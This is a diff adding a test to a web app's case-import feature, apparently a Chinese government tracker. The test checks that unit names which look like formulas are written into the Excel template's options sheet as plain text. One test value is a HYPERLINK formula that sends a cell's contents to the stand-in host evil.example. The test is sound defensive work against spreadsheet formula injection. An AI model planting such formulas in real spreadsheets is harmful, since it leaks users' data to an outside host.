@@ -178,3 +178,20 @@ def test_a_job_is_only_shown_to_who_uploaded_it(app, clerk_client, clerk2_client
         assert client.get(f"{job_url}/errors.xlsx").status_code == 404
     # Leaders read the ledger but do not import.
     assert client_as("leader").get(URL + "/").status_code == 403
+
+
+def test_template_options_are_written_as_text_never_as_formulas(clerk_client, db_session):
+    """A name someone typed (here a unit's) that starts like a formula is text in the template's
+    options sheet, as in every export: opened in Excel it runs nothing."""
+    from app.org.models import OrgUnit
+
+    # Two long names (under 100 characters each): the reported units' list no longer fits
+    # inline in the drop-down, so it goes to the options sheet.
+    evil = ('=HYPERLINK("http://evil.example/"&A1,"点此查看")' + "局" * 48, "-2+3" + "局" * 90)
+    for old_name, new_name in zip(("县自然资源局", "县教育局"), evil, strict=True):
+        db_session.execute(select(OrgUnit).where(OrgUnit.name == old_name)).scalar_one().name = new_name
+    db_session.commit()
+    book = openpyxl.load_workbook(io.BytesIO(clerk_client.get("/cases/import/template").data))
+    assert "选项" in book.sheetnames
+    cells = [cell for row in book["选项"].iter_rows() for cell in row if cell.value in evil]
+    assert len(cells) == 2 and all(cell.data_type == "s" for cell in cells)
